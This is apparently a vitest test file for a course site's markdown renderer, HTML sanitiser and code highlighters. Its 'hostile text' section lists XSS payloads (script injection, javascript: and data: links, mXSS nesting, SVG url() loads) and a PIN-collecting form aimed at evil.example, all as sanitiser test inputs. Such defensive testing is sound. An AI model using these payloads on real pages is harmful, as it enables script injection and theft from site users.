import { describe, expect, it } from 'vitest';
import { highlightPython } from './highlight-python.ts';
import { highlightSql } from './highlight-sql.ts';
import { countWords, plainText } from './plain-text.ts';
import { renderLine, renderMarkdown } from './render-markdown.ts';
import { sanitiseHtml } from './sanitise-html.ts';

const dangling: string[] = [];
function rendering() {
  return {
    headingIds: new Set<string>(),
    lessonHref: (id: string) => (id === 'af-known' ? '/course/ai-fundamentals/lesson/af-known' : null),
    onDanglingLink: (id: string) => dangling.push(id),
    onMarkupFault: () => undefined,
  };
}
const render = (source: string) => renderMarkdown(source, rendering()).trim();

describe('a text', () => {
  it('gives headings ids, different ones for the same words', () => {
    expect(render('## Your turn!\n\n### Your turn')).toBe(
      '<h2 id="your-turn">Your turn!</h2>\n<h3 id="your-turn-2">Your turn</h3>',
    );
  });

  it('ends no line between a number and its per cent, and is searched as it was written', () => {
    const html = render('A mark-up of 50 % on `7 % 2`.');
    expect(html).toBe('<p>A mark-up of 50\u00a0% on <code>7 % 2</code>.</p>');
    expect(renderLine('20 %', rendering())).toBe('20\u00a0%');
    expect(plainText(html)).toBe('A mark-up of 50 % on 7 % 2.');
  });

  it('lets phones scroll a table, and aligns its columns without styles', () => {
    const html = render('| a | b |\n|---|--:|\n| 1 | 2 |');
    expect(html).toMatch(/^<div class="table-scroll" tabindex="0" role="region" aria-label="Table"><table>/);
    expect(html).toMatch(/<\/table><\/div>$/);
    expect(html).toContain('<th scope="col">a</th>');
    expect(html).toContain('<td class="align-right">2</td>');
  });

  it('names the column in each cell of a wide table, which a phone shows row by row', () => {
    const html = render('| Day | **Late** | Guess | New |\n|---|---|---|---|\n| Mon | 6 | 6 | 5 |');
    expect(html).toContain('<div class="table-scroll table-wide"');
    expect(html).toContain('<table role="table">');
    expect(html).toContain('<tr role="row">');
    expect(html).toContain('<td role="cell" data-label="Late">6</td>');
    expect(html).toContain('<td role="cell" data-label="New">5</td>');
  });

  it('links to other lessons and reports those that do not exist', () => {
    expect(render('[next](lesson:af-known)')).toBe(
      '<p><a href="/course/ai-fundamentals/lesson/af-known">next</a></p>',
    );
    render('[next](lesson:af-unknown)');
    expect(dangling).toEqual(['af-unknown']);
  });

  it('distinguishes code from its output', () => {
    expect(render('```python\nx = 1\n```')).toBe(
      '<pre class="code" tabindex="0"><code>x = <span class="tok-number">1</span></code></pre>',
    );
    expect(render('```\n1 < 2\n```')).toBe('<pre class="output" tabindex="0"><samp>1 &lt; 2</samp></pre>');
    expect(render('```sql\nSELECT 1\n```')).toBe(
      '<pre class="code" tabindex="0"><code><span class="tok-keyword">SELECT</span> <span class="tok-number">1</span></code></pre>',
    );
  });

  it('keeps a figure as it is, in a frame', () => {
    const svg =
      '<svg viewBox="0 0 9 9" role="img" fill="currentColor"><title>T</title><desc>D</desc><path d="M0 0H9"></path></svg>';
    expect(render(`Before\n\n${svg}\n\nAfter`)).toBe(`<p>Before</p>\n<figure>${svg}</figure>\n<p>After</p>`);
  });

  it('of one line has no paragraph', () => {
    expect(renderLine('Is `x` **big**?\n', rendering())).toBe('Is <code>x</code> <strong>big</strong>?');
  });
});

describe('hostile text', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<svg viewBox="0 0 1 1" onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
    '<svg><use href="https://evil.example/#x"/><image href="https://evil.example/x"/></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="onload" to="x"/></svg>',
    '<svg><style>*{background:url(https://evil.example)}</style></svg>',
    '<p style="position:fixed">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '[x](javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](lesson:af-known"onmouseover="alert(1))',
    '![x](https://evil.example/pixel.png)',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=pin><button>Go</button></form>',
    '<div class="fixed inset-0" id="root">x</div>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '```python"><script>alert(1)</script>\nx\n```',
    '<!--><script>alert(1)</script>-->',
    '<span class="tok-x" onclick="alert(1)">x</span>',
  ])('loses its teeth: %s', (source) => {
    const html = render(source);
    const tags = Array.from(html.matchAll(/<\/?([a-z]+)([^>]*)>/gi), ([, name, rest]) => `${name}${rest}`);
    const allowed =
      /^(p|pre|code|samp|div|span|figure|svg|g|text|title|desc|path|table|tr|td|a|strong|em)\b(?!.*(\son|style=|script|javascript:|data:|evil|href="\/\/|id=|fixed))/;
    expect(tags.filter((tag) => !allowed.test(tag))).toEqual([]);
  });

  it.each([
    'fill="url(https://evil.example/x)"',
    'fill="url( \'https://evil.example/x\' )"',
    'stroke="URL(//evil.example/x)"',
    'fill="none url(https://evil.example/x)"',
    'fill="url(#a) url(https://evil.example/x)"',
    'fill="\\75rl(https://evil.example/x)"',
    'stroke="image-set(\'https://evil.example/x\' 1x)"',
    'filter="url(https://evil.example/x)"',
    'clip-path="url(https://evil.example/x)"',
    'mask="url(https://evil.example/x)"',
    'marker-end="url(https://evil.example/x)"',
    'style="fill:url(https://evil.example/x)"',
    'href="https://evil.example/x"',
    'xlink:href="https://evil.example/x"',
  ])('loads nothing by an attribute of a figure: %s', (attribute) => {
    expect(
      sanitiseHtml(`<svg viewBox="0 0 1 1"><rect ${attribute} width="1"/><use ${attribute}/></svg>`),
    ).toBe('<svg viewBox="0 0 1 1"><rect width="1"></rect></svg>');
  });

  it('may point into its own figure, and be coloured and moved', () => {
    const figure = '<rect fill="url(#shade)" stroke="rgb(1, 2, 3)" transform="rotate(4)"></rect>';
    expect(sanitiseHtml(`<svg>${figure}</svg>`)).toBe(`<svg>${figure}</svg>`);
  });

  it('is stopped by the sanitiser alone, too', () => {
    expect(sanitiseHtml('<p onclick="x" style="y">a</p><script>z</script>')).toBe('<p>a</p>');
  });
});

describe('python', () => {
  it('marks keywords, texts, numbers, comments and new names, and leaves the rest plain', () => {
    expect(highlightPython('def f(x):\n    return "<" + 1.5  # why')).toBe(
      '<span class="tok-keyword">def</span> <span class="tok-name">f</span>(x):\n    ' +
        '<span class="tok-keyword">return</span> <span class="tok-string">&quot;&lt;&quot;</span> + ' +
        '<span class="tok-number">1.5</span>  <span class="tok-comment"># why</span>',
    );
  });

  it('shows broken code as it is written', () => {
    expect(highlightPython('if x\n  (')).toContain('if');
  });
});

it('SQL has its words, texts, numbers and comments marked, and stays as it is written', () => {
  expect(highlightSql("select name -- who\nFROM t WHERE a < 'x'")).toBe(
    '<span class="tok-keyword">select</span> name <span class="tok-comment">-- who</span>\n' +
      '<span class="tok-keyword">FROM</span> t <span class="tok-keyword">WHERE</span> a &lt; ' +
      '<span class="tok-string">\'x\'</span>',
  );
});

describe('words', () => {
  it('are found without markup and figures', () => {
    expect(plainText('<p>One <code>x &lt; y</code></p><svg><title>T</title></svg><p>two</p>')).toBe(
      'One x < y two',
    );
  });

  it('are counted without code', () => {
    expect(countWords('<p>One two, three – four.</p><pre><code>a b c</code></pre>')).toBe(4);
  });
});
